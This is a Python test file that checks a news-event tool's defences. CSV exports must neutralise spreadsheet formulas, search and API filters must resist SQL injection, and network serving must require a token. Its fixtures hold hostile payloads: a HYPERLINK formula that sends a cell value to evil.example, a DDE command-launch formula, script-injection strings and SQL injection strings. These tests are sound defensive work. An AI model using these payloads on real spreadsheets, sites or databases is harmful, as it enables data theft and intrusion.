"""Hostile text: articles written to attack the reader's tools must stay plain data.

Article text, titles and URLs come from anyone on the web. They must reach the user as the raw
text (JSON), never as a spreadsheet formula (CSV), and words typed into search or filters must
never be read as SQL or FTS syntax. Everything goes through the real CLI and a real SQLite store;
no pipeline model is loaded (ingest and export do not need one).
"""

from __future__ import annotations

import csv
import io
import json
import re
import sqlite3
from pathlib import Path

import pytest
from typer.testing import CliRunner

from eventdesk.cli import app
from eventdesk.export import csv_safe, write_csv

runner = CliRunner()

SCRIPT = '<script>alert("x")</script><img src=x onerror=alert(1)>'
HOSTILE = [
    {
        "id": "h-formula",
        "title": "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "text": "=cmd|' /C calc'!A0 and then the real story about protests in Lagos.",
        "url": "https://evil.example/a?x=<script>",
        "source": "@SUM(1+1)*cmd|' /C calc'!A0",
    },
    {
        "id": "h-script",
        "title": SCRIPT,
        "text": f"Police said {SCRIPT} nothing else happened in Kabul on Monday.",
        "url": "javascript:alert(document.cookie)",
        "source": "+1-555-0100",
    },
    {
        "id": "h-sql",
        "title": "Robert'); DROP TABLE articles;--",
        "text": "-2 degrees in Kyiv; ' OR 1=1 -- was written on a wall, officials said.",
        "source": "\t=1+1",
    },
]

INJECTIONS = [
    "' OR 1=1 --",
    '"; DROP TABLE articles; --',
    "Lagos' UNION SELECT id, text, 1, 1, 1 FROM articles --",
    'NEAR(protests Lagos, 2)',
    "text:Kabul",
    '"unbalanced',
    "* OR *",
    "Kabul AND NOT Kyiv",
    "%",
    "_",
    "\\",
    "\x00",
    "')) OR (('1'='1",
]


def _invoke(*args: str, input: str | None = None):
    return runner.invoke(app, list(args), input=input)


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory: pytest.TempPathFactory) -> tuple[str, Path]:
    """One store for the module: every test here only reads it (and checks it is unchanged)."""
    tmp_path = tmp_path_factory.mktemp("hostile")
    feed = tmp_path / "hostile.jsonl"
    feed.write_text("".join(json.dumps(r) + "\n" for r in HOSTILE), encoding="utf-8")
    db = tmp_path / "hostile.db"
    res = _invoke("ingest", str(feed), "--db", f"sqlite:///{db}", "--quiet")
    assert res.exit_code == 0, res.output
    return f"sqlite:///{db}", db


def _article_rows(db: Path) -> list[tuple]:
    with sqlite3.connect(db) as conn:
        sql = "SELECT id, title, text, url, source FROM articles ORDER BY seq"
        return conn.execute(sql).fetchall()


def test_json_export_carries_the_raw_text(hostile_store: tuple[str, Path]) -> None:
    url, _ = hostile_store
    res = _invoke("export", "articles", "--db", url)
    assert res.exit_code == 0, res.output
    got = {r["id"]: r for r in map(json.loads, res.stdout.splitlines())}
    for rec in HOSTILE:
        assert got[rec["id"]]["title"] == rec["title"]
        assert rec["text"] in got[rec["id"]]["text"]  # raw, not escaped or stripped
        assert got[rec["id"]]["source"] == rec["source"].strip()


def test_csv_export_neutralises_formulas(hostile_store: tuple[str, Path], tmp_path: Path) -> None:
    url, _ = hostile_store
    out = tmp_path / "articles.csv"
    res = _invoke("export", "articles", "-f", "csv", "-o", str(out), "--db", url)
    assert res.exit_code == 0, res.output
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"))))
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    header, body = rows[0], rows[1:]
    by_id = {dict(zip(header, r, strict=False))["id"]: dict(zip(header, r, strict=False))
             for r in body}
    # The text is all there, behind one quote: nothing is lost, nothing runs.
    assert by_id["h-formula"]["title"] == "'" + HOSTILE[0]["title"]
    assert by_id["h-script"]["title"] == SCRIPT  # HTML is inert in CSV: left as written


def test_csv_safe_leaves_numbers_and_plain_text_alone() -> None:
    assert csv_safe(-3.5) == -3.5
    assert csv_safe(-2) == -2
    assert csv_safe("Lagos") == "Lagos"
    assert csv_safe("") == ""
    assert csv_safe(None) is None
    assert csv_safe("-2 degrees") == "'-2 degrees"
    buf = io.StringIO()
    write_csv([{"a": "=1+1", "nested": {"b": "@x"}, "list": ["=y"]}], buf)
    lines = buf.getvalue().splitlines()
    assert lines[1].split(",")[0] == "'=1+1"
    assert "'@x" in lines[1]


@pytest.mark.parametrize("query", INJECTIONS)
def test_search_terms_cannot_inject_sql(hostile_store: tuple[str, Path], query: str) -> None:
    url, db = hostile_store
    before = _article_rows(db)
    res = _invoke("search", query, "--db", url)
    assert res.exit_code == 0, res.output
    hits = [json.loads(x) for x in res.stdout.splitlines()]
    # Words are matched as words: a tautology or UNION finds exactly the articles holding its
    # words, never "every row".
    words = {w.lower() for w in re.findall(r"\w+", query)}
    expected = {
        r["id"]
        for r in HOSTILE
        if words and words <= {w.lower() for w in re.findall(r"\w+", r["title"] + " " + r["text"])}
    }
    assert {h["article_id"] for h in hits} == expected
    for hit in hits:
        assert set(hit) == {"article_id", "title", "published", "source", "snippet"}
    assert _article_rows(db) == before
    with sqlite3.connect(db) as conn:
        assert conn.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
        assert {r[0] for r in conn.execute("SELECT name FROM sqlite_master")} >= {"articles"}


def test_tautology_matches_only_the_article_holding_its_words(
    hostile_store: tuple[str, Path],
) -> None:
    url, _ = hostile_store
    res = _invoke("search", "' OR 1=1 --", "--db", url)
    assert res.exit_code == 0, res.output
    ids = [json.loads(x)["article_id"] for x in res.stdout.splitlines()]
    assert ids == ["h-sql"]  # the one article whose text says "OR 1=1"
    res = _invoke("search", '"; DROP TABLE articles; --', "--db", url)
    assert [json.loads(x)["article_id"] for x in res.stdout.splitlines()] == ["h-sql"]


# --- the HTTP API ----------------------------------------------------------------------------


@pytest.fixture(scope="module")
def client(hostile_store: tuple[str, Path]):
    from fastapi.testclient import TestClient

    from eventdesk.api import create_app

    url, _ = hostile_store
    with TestClient(create_app(url)) as c:
        yield c


def test_api_json_carries_the_raw_text(client) -> None:
    res = client.get("/api/articles/h-script")
    assert res.status_code == 200, res.text
    body = res.json()
    assert body["title"] == SCRIPT  # raw in JSON; the page must insert it as text
    assert res.headers["content-type"].startswith("application/json")
    assert "script-src 'self'" in res.headers["content-security-policy"]
    assert res.headers["x-content-type-options"] == "nosniff"


def test_api_csv_neutralises_formulas(client) -> None:
    res = client.get("/api/articles.csv")
    assert res.status_code == 200, res.text
    for row in csv.reader(io.StringIO(res.text)):
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


@pytest.mark.parametrize("value", INJECTIONS)
@pytest.mark.parametrize(
    ("route", "param"),
    [
        ("/api/articles", "q"),
        ("/api/articles", "source"),
        ("/api/articles", "date_from"),
        ("/api/articles", "sort"),
        ("/api/events", "q"),
        ("/api/events", "actor"),
        ("/api/events", "country"),
        ("/api/events", "type"),
        ("/api/events", "sort"),
        ("/api/stories", "q"),
    ],
)
def test_api_filters_cannot_inject_sql(
    client, hostile_store: tuple[str, Path], route: str, param: str, value: str
) -> None:
    _, db = hostile_store
    before = _article_rows(db)
    res = client.get(route, params={param: value})
    # A bad value is a clear 400 or a normal answer; never a 500 or every row of the table.
    assert res.status_code in (200, 400, 422), (res.status_code, res.text)
    if res.status_code == 200 and param in ("source", "date_from") and route == "/api/articles":
        # No stored source or date equals an injection string: a tautology would list all.
        assert res.json()["total"] == 0, res.text
    assert _article_rows(db) == before
    with sqlite3.connect(db) as conn:
        assert conn.execute("PRAGMA integrity_check").fetchone()[0] == "ok"


def test_api_only_reads(client) -> None:
    for method in ("post", "put", "delete", "patch"):
        res = getattr(client, method)("/api/articles")
        assert res.status_code == 405, (method, res.status_code)


# --- access beyond this machine ----------------------------------------------------------------


def test_loopback_needs_no_token_other_hosts_do(monkeypatch: pytest.MonkeyPatch) -> None:
    from eventdesk.api.auth import TOKEN_ENV, is_loopback, resolve_token
    from eventdesk.errors import UsageError

    monkeypatch.delenv(TOKEN_ENV, raising=False)
    for host in ("127.0.0.1", "127.0.0.2", "localhost", "::1", "[::1]"):
        assert is_loopback(host)
        assert resolve_token(host) is None
    for host in ("0.0.0.0", "::", "192.168.1.5", "desk.example.org"):
        assert not is_loopback(host)
        with pytest.raises(UsageError, match="needs an access token"):
            resolve_token(host)
    with pytest.raises(UsageError, match="at least"):
        resolve_token("0.0.0.0", "short")
    with pytest.raises(UsageError, match="may only hold"):
        resolve_token("0.0.0.0", "x" * 20 + "; Path=/")
    monkeypatch.setenv(TOKEN_ENV, "t" * 24)
    assert resolve_token("0.0.0.0") == "t" * 24


def test_token_gate_refuses_requests_without_the_token(hostile_store: tuple[str, Path]) -> None:
    from fastapi.testclient import TestClient

    from eventdesk.api import create_app
    from eventdesk.api.auth import COOKIE, protect

    token = "s3cret-token-for-tests-0123"
    url, _ = hostile_store
    with TestClient(protect(create_app(url), token)) as c:
        for path in ("/", "/api", "/api/articles", "/api/articles.csv", "/api/docs"):
            res = c.get(path)
            assert res.status_code == 401, (path, res.status_code)
            assert "E021" in res.json()["error"]
        for bad in ("Bearer wrong", "Bearer " + token[:-1], "Basic " + token, token):
            assert c.get("/api", headers={"Authorization": bad}).status_code == 401
        assert c.get("/api", headers={"Authorization": "Bearer " + token}).status_code == 200
        # Opening the page once with ?token= sets an HttpOnly cookie for its own API calls.
        res = c.get("/api", params={"token": token})
        assert res.status_code == 200
        set_cookie = res.headers["set-cookie"]
        assert set_cookie.startswith(f"{COOKIE}=") and "HttpOnly" in set_cookie
        assert c.get("/api/articles").status_code == 200  # the cookie now carries it
        c.cookies.clear()
        c.cookies.set(COOKIE, "wrong-token-wrong-token")
        assert c.get("/api/articles").status_code == 401


def test_serve_on_the_network_refuses_to_start_without_a_token(
    hostile_store: tuple[str, Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    from typer.testing import CliRunner

    from eventdesk.api.auth import TOKEN_ENV
    from eventdesk.cli import app

    monkeypatch.delenv(TOKEN_ENV, raising=False)
    url, _ = hostile_store
    res = CliRunner().invoke(app, ["serve", "--db", url, "--host", "0.0.0.0", "--port", "1"])
    assert res.exit_code == 2
    assert TOKEN_ENV in res.output and "access token" in res.output


def test_served_desk_requires_its_token(hostile_store: tuple[str, Path]) -> None:
    """The real command on all addresses: without the token nothing, with it the API."""
    import os
    import socket
    import subprocess
    import sys
    import time

    import httpx

    url, _ = hostile_store
    token = "served-token-0123456789abcdef"
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port = sock.getsockname()[1]
    env = {k: v for k, v in os.environ.items() if k != "EVENTDESK_TOKEN"}
    proc = subprocess.Popen(
        [sys.executable, "-m", "eventdesk", "serve", "--db", url, "--host", "0.0.0.0",
         "--port", str(port), "--token", token, "--quiet"],
        env=env, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True,
    )
    try:
        base = f"http://127.0.0.1:{port}"
        deadline = time.monotonic() + 60
        while True:
            try:
                first = httpx.get(f"{base}/api", timeout=2)
                break
            except httpx.TransportError:
                if proc.poll() is not None or time.monotonic() > deadline:
                    raise AssertionError(f"serve did not start: {proc.stderr.read()}") from None
                time.sleep(0.2)
        assert first.status_code == 401
        assert httpx.get(f"{base}/").status_code == 401
        ok = httpx.get(f"{base}/api/articles", headers={"Authorization": f"Bearer {token}"})
        assert ok.status_code == 200 and ok.json()["total"] >= 1
    finally:
        proc.terminate()
        proc.wait(timeout=20)
